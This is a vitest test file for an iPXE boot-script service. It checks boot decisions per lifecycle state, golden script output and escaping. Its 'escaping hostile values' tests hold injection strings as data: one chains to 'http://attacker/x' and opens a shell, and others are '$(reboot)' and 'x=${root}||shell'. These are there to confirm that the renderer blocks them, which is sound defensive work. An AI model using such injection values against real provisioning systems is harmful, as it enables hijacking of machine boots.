import { describe, expect, it } from 'vitest';
import type { ResolvedNode } from '../../../server/model/inventory.js';
import type { LifecycleStatus } from '../../../server/model/lifecycle.js';
import type { Mac } from '../../../server/model/mac.js';
import { decideScript, type BootSettings, type CatalogLookup, type MachineFacts } from '../../../server/protocol/ipxe/decide.js';
import { createIpxeRenderer } from '../../../server/protocol/ipxe/render.js';
import { RackseedError } from '../../../server/model/errors.js';
import { expectGolden } from '../../support/golden.js';
import { projectIpxeRenderer } from '../../support/ipxe.js';

const settings: BootSettings = { baseUrl: 'http://10.0.0.1:8080', provisionKernel: 'installer/vmlinuz', provisionInitrd: 'installer/initrd.img' };

const gpu001: ResolvedNode = {
  name: 'gpu001',
  macs: ['52:54:00:00:01:01' as Mac],
  ip: '10.0.1.11',
  group: 'gpu',
  labels: {},
  image: 'debian12-cuda',
  roles: ['base', 'nvidia', 'slurm-compute'],
  kernelArgs: ['console=ttyS0,115200n8', 'quiet'],
  hardware: {},
  installedBoot: 'local',
  uefiLoader: 'ipxe.efi',
  leaseSeconds: 86400,
  data: {},
  disk: { device: '/dev/sda', table: 'gpt', partitions: [{ mount: '/', size: 'rest', fs: 'ext4' }] },
};
const CUDA_SHA = 'c'.repeat(64);
const OLD_SHA = 'a'.repeat(64);
/** The catalog holds debian12-cuda and debian12-old with their kernels, and an import without one. */
const catalog: CatalogLookup = (name) =>
  ({ 'debian12-cuda': { hasKernel: true, sha256: CUDA_SHA }, 'debian12-old': { hasKernel: true, sha256: OLD_SHA }, 'imported': { hasKernel: false, sha256: 'b'.repeat(64) } })[name];
const kernelBoot: ResolvedNode = { ...gpu001, installedBoot: 'kernel' };
const facts: MachineFacts = { mac: '52:54:00:00:01:01', uuid: '4c4c4544-0042-3010-8057-b4c04f533532', platform: 'pcbios', buildarch: 'i386' };
const status = (state: LifecycleStatus['state'], extra: Partial<LifecycleStatus> = {}): LifecycleStatus => ({ state, reimageRequested: false, facts: {}, ...extra });

describe('which script a machine gets (pure decision)', () => {
  const table: Array<[string, ResolvedNode | undefined, LifecycleStatus | undefined, string]> = [
    ['unknown machine', undefined, undefined, 'unknown'],
    ['unknown machine seen before', undefined, status('discovered'), 'unknown'],
    ['inventory node never seen', gpu001, undefined, 'provision'],
    ['assigned node', gpu001, status('assigned'), 'provision'],
    ['rebooted mid-install', gpu001, status('provisioning', { stage: 'download' }), 'provision'],
    ['installed node', gpu001, status('installed'), 'local'],
    ['configuring node', gpu001, status('configuring'), 'local'],
    ['ready node', gpu001, status('ready'), 'local'],
    ['ready node with reimage requested', gpu001, status('ready', { reimageRequested: true }), 'provision'],
    ['failed while configuring keeps its OS', gpu001, status('failed', { reason: 'slurmd down' }), 'local'],
    ['failed applying its states keeps its OS', gpu001, status('failed', { reason: 'unreachable after 10 attempts', stage: 'states' }), 'local'],
    ['failed its readiness check keeps its OS', gpu001, status('failed', { reason: 'slurmd not idle', stage: 'readiness' }), 'local'],
    ['failed readiness, group boots the image kernel', { ...gpu001, installedBoot: 'kernel' }, status('failed', { reason: 'slurmd not idle', stage: 'readiness' }), 'kernel'],
    ['failed during install is not retried implicitly', gpu001, status('failed', { reason: 'sha256 mismatch', stage: 'verify' }), 'unavailable'],
    ['failed install with reimage requested', gpu001, status('failed', { reason: 'x', stage: 'verify', reimageRequested: true }), 'provision'],
    ['group without an image', { ...gpu001, image: undefined }, status('assigned'), 'unavailable'],
    // The server would refuse the plan: the installer is not booted (the node provisions on a boot after the fix).
    ['image not in the catalog', { ...gpu001, image: 'rocky9' }, status('assigned'), 'unavailable'],
    ['reimage into an image not in the catalog', { ...gpu001, image: 'rocky9' }, status('ready', { reimageRequested: true }), 'unavailable'],
    ['group without a disk layout', { ...gpu001, disk: undefined }, status('assigned'), 'unavailable'],
    ['image kernel boot of an image without a kernel', { ...gpu001, image: 'imported', installedBoot: 'kernel' }, status('assigned'), 'unavailable'],
    ['local boot of an image without a kernel', { ...gpu001, image: 'imported' }, status('assigned'), 'provision'],
    ['installed, group boots the image kernel', { ...gpu001, installedBoot: 'kernel' }, status('ready'), 'kernel'],
    // The kernel of the image on the disk, even after its group moved to another image.
    ['image kernel of the installed image, group moved on', kernelBoot, status('ready', { installedImage: { name: 'debian12-old', sha256: OLD_SHA } }), 'kernel'],
    ['installed image left the catalog', kernelBoot, status('ready', { installedImage: { name: 'debian12-gone', sha256: OLD_SHA } }), 'unavailable'],
    ['installed image rebuilt under its name', kernelBoot, status('ready', { installedImage: { name: 'debian12-old', sha256: CUDA_SHA } }), 'unavailable'],
    ['installed image has no kernel', kernelBoot, status('installed', { installedImage: { name: 'imported', sha256: 'b'.repeat(64) } }), 'unavailable'],
    ['local boot does not need the installed image', gpu001, status('ready', { installedImage: { name: 'debian12-gone', sha256: OLD_SHA } }), 'local'],
    ['reimage of a node whose installed image is gone', kernelBoot, status('ready', { reimageRequested: true, installedImage: { name: 'debian12-gone', sha256: OLD_SHA } }), 'provision'],
    ['ready node with a wipe requested', gpu001, status('ready', { wipeRequested: 'quick' }), 'wipe'],
    // The installer's plan is not needed to wipe: neither an image nor a disk layout.
    ['wipe of a node whose group has no image or layout', { ...gpu001, image: undefined, disk: undefined }, status('ready', { wipeRequested: 'full' }), 'wipe'],
    ['wipe of a node whose install failed', gpu001, status('failed', { reason: 'sha256 mismatch', stage: 'verify', wipeRequested: 'quick' }), 'wipe'],
    ['wipe before a pending reimage', gpu001, status('ready', { wipeRequested: 'quick', reimageRequested: true }), 'wipe'],
    ['rebooted mid-wipe: wiped again', gpu001, status('wiping', { wipeRequested: 'quick', stage: 'wipe' }), 'wipe'],
    ['wiped node: nothing to boot', gpu001, status('wiped'), 'unavailable'],
    ['wiped node with a reimage requested', gpu001, status('wiped', { reimageRequested: true }), 'provision'],
    ['failed wipe is not retried implicitly', gpu001, status('failed', { reason: 'write error', stage: 'wipe' }), 'unavailable'],
  ];
  it.each(table)('%s -> %s', (_name, node, st, kind) => {
    expect(decideScript({ facts, node, status: st, settings, catalog }).kind).toBe(kind);
  });

  it('boots the installed image\'s kernel and initrd, and says why it cannot when that image is gone or rebuilt', () => {
    const decide = (st: LifecycleStatus) => {
      const plan = decideScript({ facts, node: kernelBoot, status: st, settings, catalog });
      if (plan.kind === 'unknown') throw new Error('a known node');
      return plan;
    };
    const booted = decide(status('ready', { installedImage: { name: 'debian12-old', sha256: OLD_SHA } }));
    expect(booted.context).toMatchObject({ image: 'debian12-old', kernel_url: 'http://10.0.0.1:8080/files/images/debian12-old/vmlinuz', initrd_urls: ['http://10.0.0.1:8080/files/images/debian12-old/initrd.img'] });
    const gone = decide(status('ready', { installedImage: { name: 'debian12-gone', sha256: OLD_SHA } }));
    expect(gone.context.reason).toBe('the image on its disk (debian12-gone) is no longer in the catalog, and its kernel boots from there: import that image again, or reimage the node');
    const rebuilt = decide(status('ready', { installedImage: { name: 'debian12-old', sha256: CUDA_SHA } }));
    expect(rebuilt.context.reason).toContain('image debian12-old was rebuilt since this node installed it (sha256 cccccccccccc…, now aaaaaaaaaaaa…)');
  });
});

describe('iPXE scripts (exact text)', () => {
  const renderer = projectIpxeRenderer();
  const render = (node: ResolvedNode | undefined, st: LifecycleStatus | undefined, f: MachineFacts = facts) => {
    const plan = decideScript({ facts: f, node, status: st, settings, catalog });
    return plan.kind === 'unknown'
      ? renderer.render('unknown', { mac: f.mac, product: f.product ?? 'unknown product', serial: f.serial ?? 'unknown' })
      : renderer.render(plan.kind, plan.context);
  };

  it('entry script chains to the per-machine URL with the MAC and SMBIOS variables', () => {
    const text = renderer.render('entry', { base_url: settings.baseUrl, machine_url: `${settings.baseUrl}/ipxe/machine` });
    expect(text).toContain('http://10.0.0.1:8080/ipxe/machine?mac=${mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring}');
    expectGolden('ipxe/entry.ipxe', text);
  });
  it('unknown machine: registered, then the next boot device', () => {
    expectGolden('ipxe/unknown.ipxe', render(undefined, undefined, { ...facts, product: 'PowerEdge XE9680', serial: 'CN7016356T0002' }));
  });
  it('node to provision: kernel, initrd and command line from its group, with its report token', () => {
    const plan = decideScript({ facts, node: gpu001, status: status('assigned'), settings, token: 'v1.gpu001.abc.nonce.sig', catalog });
    if (plan.kind !== 'provision') throw new Error('expected provision');
    expectGolden('ipxe/provision.ipxe', renderer.render('provision', plan.context));
  });
  it('node to wipe: the installer with its token, the mode in the script', () => {
    const plan = decideScript({ facts, node: gpu001, status: status('ready', { wipeRequested: 'full' }), settings, token: 'v2.gpu001.abc.nonce.sig', catalog });
    if (plan.kind !== 'wipe') throw new Error('expected wipe');
    expectGolden('ipxe/wipe.ipxe', renderer.render('wipe', plan.context));
  });
  it('wiped node and failed wipe: told why, then the next boot device', () => {
    const wiped = decideScript({ facts, node: gpu001, status: status('wiped'), settings, catalog });
    expect(wiped.kind === 'unavailable' && wiped.context.reason).toBe('its disks were wiped (rackseed wipe): reimage it to install it again');
    const failed = decideScript({ facts, node: gpu001, status: status('failed', { reason: 'write error on vda', stage: 'wipe' }), settings, catalog });
    expect(failed.kind === 'unavailable' && failed.context.reason).toBe('wiping its disks failed (write error on vda): wipe it again, or reimage it');
  });
  it('a wipe is not started when the installer is missing', () => {
    const plan = decideScript({ facts, node: gpu001, status: status('ready', { wipeRequested: 'quick' }), settings, catalog, installerProblem: () => 'the installer is not built' });
    expect(plan.kind === 'unavailable' && plan.context.reason).toBe('the installer is not built');
  });
  it('node to boot locally', () => {
    expectGolden('ipxe/local.ipxe', render(gpu001, status('ready')));
  });
  it('installed node booting its image kernel with root on the local disk', () => {
    expectGolden('ipxe/kernel.ipxe', render({ ...gpu001, installedBoot: 'kernel' }, status('ready')));
  });
});

describe('escaping hostile values', () => {
  const renderer = projectIpxeRenderer();
  it('SMBIOS strings cannot inject commands, variables or new lines into a script', () => {
    const hostile = 'Evil ${net0/mac} || chain http://attacker/x\n#!ipxe\nshell; `rm` "q"';
    const text = renderer.render('unknown', { mac: '52:54:00:00:01:01', product: hostile, serial: '$(reboot)' });
    expect(text).not.toContain('${net0');
    expect(text).not.toContain('||');
    expect(text).not.toMatch(/\nchain/);
    expect(text).not.toContain('$(');
    expect(text.split('\n').filter((l) => l.startsWith('#!ipxe'))).toHaveLength(1);
    expectGolden('ipxe/unknown-hostile.ipxe', text);
  });
  it('an unsafe kernel argument is refused, not written', () => {
    const node = { ...gpu001, kernelArgs: ['console=ttyS0', 'x=${root}||shell'] };
    const plan = decideScript({ facts, node, status: status('assigned'), settings, catalog });
    expect(plan.kind).toBe('provision');
    if (plan.kind !== 'provision') return;
    expect(() => renderer.render('provision', plan.context)).toThrow(/unsafe argument/);
  });
  it('URLs are encoded so that iPXE does not expand or split them', () => {
    const plan = decideScript({ facts, node: gpu001, status: status('assigned'), settings: { ...settings, provisionKernel: 'installer/vm linuz$x' }, catalog });
    if (plan.kind !== 'provision') throw new Error('expected provision');
    const text = renderer.render('provision', plan.context);
    expect(text).toContain('/files/installer/vm%20linuz%24x');
  });
  it('a template referencing a missing value is an error, not an empty string', () => {
    const r = createIpxeRenderer({ entry: 'chain {{ base_url | ipxe_url_base }}/{{ missing }}', unknown: '', provision: '', wipe: '', local: '', kernel: '', unavailable: '', 'next-device': '' });
    expect(() => r.render('entry', { base_url: 'http://x' })).toThrow(RackseedError);
    try {
      r.render('entry', { base_url: 'http://x' });
    } catch (e) {
      expect((e as RackseedError).code).toBe('TEMPLATE_MISSING_VALUE');
    }
    expect(() => projectIpxeRenderer().render('provision', { node: 'x' })).toThrow(/missing|undefined/);
  });
});
